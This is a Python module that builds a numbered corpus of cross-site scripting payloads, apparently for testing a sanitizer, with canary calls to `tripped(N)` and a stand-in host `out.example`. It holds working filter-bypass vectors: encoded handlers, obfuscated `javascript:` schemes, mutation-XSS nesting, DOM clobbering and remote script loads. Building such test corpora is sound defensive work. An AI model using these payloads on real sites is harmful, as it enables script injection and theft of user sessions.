"""Texts that want to act in a browser, made from the classes that public cheat sheets name: what may carry a script,
when it runs, how its name is hidden, in what it is nested, and what is fetched without anybody's doing.

No list is copied. Each payload carries its own number, and says it in the one way or the other: by calling `tripped(N)`
or by asking for `//out.example/N`. So whoever listens knows which of them acted.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import product
from urllib.parse import quote

OUT = "out.example"
"""A host that nothing of the house may ever ask for."""


@dataclass(frozen=True, slots=True)
class Payload:
    number: int
    kind: str
    text: str
    """HTML, or Markdown where `kind` says so."""


Template = Callable[[str, str], str]
"""From a call and an address to a text."""
FIRES: tuple[str, ...] = (
    "<img src=x. onerror={js}>", "<image src=x. onerror={js}>", "<svg onload={js}>", "<body onload={js}>",
    "<video src=x. onerror={js}></video>", "<audio src=x. onerror={js}></audio>",
    "<video><source src=x. onerror={js}></video>", "<iframe onload={js}></iframe>", "<script>{js}</script>",
    "<script src=//{out}></script>", "<details open ontoggle={js}>x</details>", "<input autofocus onfocus={js}>",
    "<object data=x. onerror={js}></object>", "<link rel=stylesheet href=x. onerror={js}>",
    "<style onload={js}></style>", "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributeName=x></svg>",
    "<style>@keyframes k{{from{{left:0}}}}</style><b style='animation:k 1s' onanimationstart={js}>x</b>",
    "<b tabindex=1 autofocus onfocus={js}>x</b>", "<marquee onstart={js}>x</marquee>",
)  # fmt: skip
"""They need nobody's doing."""
CARRIERS = ("a", "b", "p", "td", "img", "code", "pre", "h2", "ol", "button", "math", "svg", "x-own", "blockquote")
EVENTS = (
    "click", "mouseover", "pointerenter", "focus", "focusin", "keydown", "copy", "paste", "drag", "contextmenu",
    "wheel", "dblclick", "touchstart", "beforeinput", "transitionend", "scroll", "auxclick", "pointerdown",
)  # fmt: skip
FORMS = (
    "<img src=x. onerror={js}>", '<img src=x. onerror="{js}">', "<img src=x. onerror='{js}'>",
    "<img/src=x./onerror={js}>", "<img\nsrc=x.\nonerror={js}>", "<img\tsrc=x.\tonerror={js}>",
    "<img\x0csrc=x.\x0conerror={js}>", "<IMG SRC=x. oNeRrOr={js}>", "<img src=x. onerror = {js}>",
    "<img src=x. onerror=\n{js}>", "<img src=x.\x00 onerror={js}>", "<img src=x. onerror={js}",
    "<img src=x. onerror={js}//", "<<img src=x. onerror={js}>", "<img src=x. /onerror={js}/>",
    '<img """><img src=x. onerror={js}>', "<img src=x. =\"'onerror={js}'>", "<img src='x.'onerror={js}>",
    "<im\x00g src=x. onerror={js}>", "<img src=x. on\x00error={js}>", "<img alt='>' src=x. onerror={js}>",
    "<svg/onload={js}>", "<svg////onload={js}>", "<svg\ronload={js}>", "<svg onload={js}//", "<sVg OnLoAd={js}>",
)  # fmt: skip
"""How attributes and their separators can be written."""


def _numeric(js: str) -> str:
    return "".join(f"&#{ord(c)};" for c in js)


def _padded(js: str) -> str:
    return "".join(f"&#{ord(c):07d}" if i % 2 else f"&#x{ord(c):X};" for i, c in enumerate(js))


SPELLINGS: tuple[Callable[[str], str], ...] = (
    str, _numeric, _padded, lambda js: js.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda js: js.replace("tripped", "\\u0074ripped"), lambda js: js.replace("tripped", "self['trip'+'ped']"),
    lambda js: f"eval(atob('{b64encode(js.encode()).decode()}'))", lambda js: f"[1].map(()=>{js})",
    lambda js: js.replace("(", "&Tab;(&NewLine;"), lambda js: f"Function(`{js}`)()",
)  # fmt: skip
"""How the call can be written inside an attribute."""
SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "\x01javascript:{js}", "java\tscript:{js}",
    "java\nscript:{js}", "java\rscript:{js}", "javascript\t:{js}", "java&#9;script:{js}", "java&#10;script:{js}",
    "java&Tab;script&colon;{js}", "&#14;javascript:{js}", "&#106;avascript:{js}", "&#x6A&#x61vascript:{js}",
    "javascript&#58;{js}", "javascript&#0000058{js}", "javascript://%0A{js}", "javascript://x.example/%0d%0a{js}",
    "javascript:/*-->*/{js}", "javascript:'<b>';{js}", "\u00a0javascript:{js}", "\u2028javascript:{js}",
    "feed:javascript:{js}", "view-source:javascript:{js}", "vbscript:{js}", "livescript:{js}", "jar:javascript:{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,{b64}",
    "DATA:text/html;charset=utf-7,<svg/onload={js}>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
    "data:application/xhtml+xml;base64,{b64}", "data:,{js}",
    "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='{js}'/>", "blob:null/{js}",
    "filesystem:http://x/{js}", "//{out}", "\\\\{out}", "/\\{out}", "http:{out}", "ht\ntps://{out}",
)  # fmt: skip
PLACES = (
    '<a href="{url}">x</a>', '<iframe src="{url}"></iframe>', '<form action="{url}"><button>x</button></form>',
    '<button form=f formaction="{url}">x</button>', '<object data="{url}"></object>', '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>', '<math href="{url}">x</math>',
    '<base href="{url}"><a href=x>x</a>', '<meta http-equiv=refresh content="0;url={url}">', '<area href="{url}">',
    '<svg><a><animate attributeName=href to="{url}" /><text y=20>x</text></a></svg>', '<script src="{url}"></script>',
    '<svg><use href="{url}#x"/></svg>', '<link rel=import href="{url}">', '<img src="{url}">',
    '<iframe srcdoc="{url}">',
)  # fmt: skip
"""Where an address can stand. Each scheme meets the first, and each place the first few schemes."""
FETCHED = (
    "<img src=//{out}>", "<img srcset='//{out} 2x'>", "<img srcset='x. 1x,//{out} 2x' src=x.>",
    "<img lowsrc=//{out}>", "<picture><source srcset=//{out}><img></picture>", "<input type=image src=//{out}>",
    "<video src=//{out}></video>", "<video poster=//{out}></video>", "<audio src=//{out}></audio>",
    "<embed src=//{out}>", "<object data=//{out}></object>", "<video><track default src=//{out}></video>",
    "<iframe src=//{out}></iframe>", "<frameset><frame src=//{out}></frameset>", "<link rel=stylesheet href=//{out}>",
    "<link rel=prefetch href=//{out}>", "<link rel=preload as=image href=//{out}>",
    "<link rel=modulepreload href=//{out}>", "<link rel=icon href=//{out}>", "<link rel=manifest href=//{out}>",
    "<link rel=preload as=image imagesrcset=//{out}>", "<link rel=prerender href=//{out}>",
    "<link rel=dns-prefetch href=//{out}>", "<link rel=preconnect href=//{out}>", "<style>@import '//{out}';</style>",
    "<style>@import url(//{out});</style>", "<style>*{{background:url(//{out})}}</style>",
    "<style>p{{list-style:url('//{out}')}}</style>",
    "<style>@font-face{{font-family:f;src:url(//{out})}}*{{font-family:f}}</style>",
    "<p style='background:url(//{out})'>x", "<p style=\"background-image:image-set('//{out}' 1x)\">x",
    "<p style='cursor:url(//{out}),auto'>x", "<p style='content:url(//{out})'>x",
    "<p style='border-image:url(//{out})'>x", "<p style='mask:url(//{out}#m)'>x",
    "<p style='background:\\75rl(//{out})'>x", "<p style='background:url(&#47;/{out})'>x",
    "<p style='b/**/ackground:url(//{out})'>x", "<table background=//{out}><tr><td>x</table>",
    "<td background=//{out}>x", "<body background=//{out}>", "<svg><image href=//{out} /></svg>",
    "<svg><image xlink:href=//{out} /></svg>", "<svg><use href=//{out}#x /></svg>",
    "<svg><filter><feImage href=//{out} /></filter></svg>", "<svg><style>@import '//{out}'</style></svg>",
    "<svg><rect fill='url(//{out}#g)' width=9 height=9 /></svg>", "<math><mglyph src=//{out}></math>",
    "<meta http-equiv=refresh content='0;//{out}'>", "<meta http-equiv=refresh content='0; URL=//{out}'>",
    "<meta http-equiv=Link content='<//{out}>; rel=prefetch'>", "<base href=//{out}/><img src=x>",
    "<html manifest=//{out}>", "<a href=x. ping=//{out}>x</a>", "<q cite=//{out}>x</q>",
    "<blockquote cite=//{out}>x</blockquote>", "<img longdesc=//{out}>", "<applet code=//{out}></applet>",
    "<bgsound src=//{out}>", "<layer src=//{out}></layer>", "<script type=module>import '//{out}'</script>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"//{out}\"]}}]}}</script>",
    "<script type=importmap>{{\"imports\":{{\"a\":\"//{out}\"}}}}</script>",
    "<form action=//{out}><input autofocus><button>x</form>", "<portal src=//{out}></portal>",
    "<fencedframe src=//{out}></fencedframe>", "<img src=cid:x srcset=//{out}>",
    "<img src='cid:x' style='background:url(//{out})'>", "<a href=//{out} target=_blank rel=opener>x</a>",
)  # fmt: skip
AROUND = (
    "{it}", "<!-->{it}-->", "<!--!>{it}", "<!--{it}", "<!--a--!>{it}", "<![CDATA[>{it}]]>", "<?xml >{it}?>",
    "<!DOCTYPE >{it}", '"><p>{it}', "'><p>{it}", "</p></div>{it}", "</textarea>{it}", "</title>{it}", "</style>{it}",
    "</script>{it}", "</template>{it}", "<template>{it}</template>",
    "<div><template shadowrootmode=open>{it}</template></div>", "<textarea></textarea>{it}", "<xmp></xmp>{it}",
    "<noscript><p title='</noscript>{it}'>", "<noembed></noembed>{it}", '<iframe srcdoc="{escaped}"></iframe>',
    '<iframe srcdoc="{twice}"></iframe>', "<noframes></noframes>{it}",
    "<svg><foreignObject>{it}</foreignObject></svg>", "<svg><desc>{it}</desc></svg>",
    "<svg><title>{it}</title></svg>", "<math><annotation-xml encoding=text/html>{it}</annotation-xml></math>",
    "<math><mtext>{it}</mtext></math>", "<svg></p><style><a id='</style>{it}'></svg>",
    "<math></p><style><!--</style>{it}--></style></math>", "<math><mtext><table><mglyph><style><!--</style>{it}",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea>{it}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{it}",
    "<math><mi><mglyph></mi><style><![CDATA[</style>{it}]]>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{it}'>",
    "<svg><style>&lt;/style&gt;{escaped}</style></svg>", "<select><option><style></option></select>{it}</style>",
    "<table><td><svg><desc><td>{it}", "<p><svg><xmp>{it}</xmp></svg>", "<a><a><table>{it}</table></a></a>",
    "<b><i><u><s><em><strong>{it}", "<ol><li><table><tr><td><blockquote>{it}", "{escaped}", "{twice}", "%3C{it}",
    "<x title='{it}'>", "<x title=`{it}`>", "<plaintext>{it}", "<object><param name=x value='{it}'></object>",
    "\ufeff{it}", "\u202e{it}", "{it}\x00", "<scr<script>ipt>{it}", "<<b>{it}</b>", "<div\x00>{it}",
    "<title>x</title>{it}", "<image>{it}",
)  # fmt: skip
"""In what something that acts can be hidden, so that one reader takes it for text and the next one for markup."""
NESTED = ("<img src=x. onerror={js}>", "<svg onload={js}>", "<script>{js}</script>", "<img src=//{out}>",
          "<a href=javascript:{js}>x</a>")  # fmt: skip
CLOBBERS = (
    "body", "cookie", "head", "forms", "getElementById", "querySelector", "location", "thread", "composer",
    "scroller", "text", "attributes", "parentNode", "childNodes", "action", "submit", "__proto__", "toString",
)  # fmt: skip
CLOBBERED = ("<form name=NAME id=NAME>x</form>", "<a id=NAME name=NAME href=javascript:{js}>x</a>",
             "<form><input name=NAME onfocus={js} autofocus></form>")  # fmt: skip
INSIDE_TEMPLATES = (
    "{{{{constructor.constructor('{js}')()}}}}", "{{{{{js}}}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>",
    "{{% raw %}}{js}",
    "{{{{7*7}}}}<b v-html='{js}' ng-init={js} x-init={js} hx-on::load={js} data-hx-get=//{out} @click={js}>",
    "[[{js}]]", "{{{{ ''.__class__.__mro__ }}}}", "<b data-live data-key=take data-said='{js}' data-opens={js}>x</b>",
)  # fmt: skip
MARKDOWN = (
    "[x]({url})", "[x](<{url}>)", "![x]({url})", "<{url}>", '[x](/ "onmouseover={js}")', "[x][r]\n\n[r]: {url}",
    "[![x]({url})]({url})", "[x]({url} 'x\" onclick=\"{js}')", "`{url}`", "```{url}\nx\n```", "> [x]({url})",
    "1. [x]({url})", "[x](\\{url})", "**[x]({url})**", "# [x]({url})", "| a |\n|---|\n| [x]({url}) |",
)  # fmt: skip


def payloads() -> list[Payload]:
    """Numbered from 1. The same list every time."""
    made: list[Payload] = []
    for kind, template in _all():
        number = len(made) + 1
        text = template(f"tripped({number})", f"{OUT}/{number}")
        made.append(Payload(number, kind, text))
    return made


def _all() -> Iterator[tuple[str, Template]]:
    yield from (("fires", _of(text)) for text in FIRES)
    for number, (tag, event) in enumerate(product(CARRIERS, EVENTS)):
        if number % 3 == 0:  # a third of all pairs: each tag and each event several times
            yield "event", _of(f"<{tag} on{event}={{js}}>x</{tag}>")
    yield from (("form", _of(text)) for text in FORMS)
    for spelling, text in product(SPELLINGS, ('<img src=x. onerror="{js}">', '<svg onload="{js}">')):
        yield "spelling", _spelt(text, spelling)
    yield from (("scheme", _at(PLACES[0], scheme)) for scheme in SCHEMES)
    yield from (
        ("place", _at(place, scheme)) for place, scheme in product(PLACES, (*SCHEMES[:2], *SCHEMES[27:29], "//{out}"))
    )
    yield from (("fetched", _of(text)) for text in FETCHED)
    yield from (("nested", _within(around, text)) for around, text in product(AROUND, NESTED))
    for name, text in product(CLOBBERS, CLOBBERED):
        yield "clobber", _of(text.replace("NAME", name))
    yield from (("template", _of(text)) for text in INSIDE_TEMPLATES)
    yield from (("markdown", _at(text, scheme)) for text, scheme in product(MARKDOWN[:4], SCHEMES))
    yield from (("markdown", _at(text, scheme)) for text, scheme in product(MARKDOWN[4:], SCHEMES[:2]))


def _of(text: str) -> Template:
    return lambda js, out: text.format(js=js, out=out)


def _spelt(text: str, spelling: Callable[[str], str]) -> Template:
    return lambda js, out: text.format(js=spelling(js), out=out)


def _at(place: str, scheme: str) -> Template:
    def made(js: str, out: str) -> str:
        b64 = b64encode(f"<script>{js}</script>".encode()).decode()
        return place.format(url=scheme.format(js=js, out=out, b64=b64), js=js, out=out)

    return made


def _within(around: str, text: str) -> Template:
    def made(js: str, out: str) -> str:
        inner = text.format(js=js, out=out)
        it = f"%3C{quote(inner[1:])}" if around.startswith("%3C") else inner
        return around.format(it=it, escaped=escape(inner), twice=escape(escape(inner)))

    return made
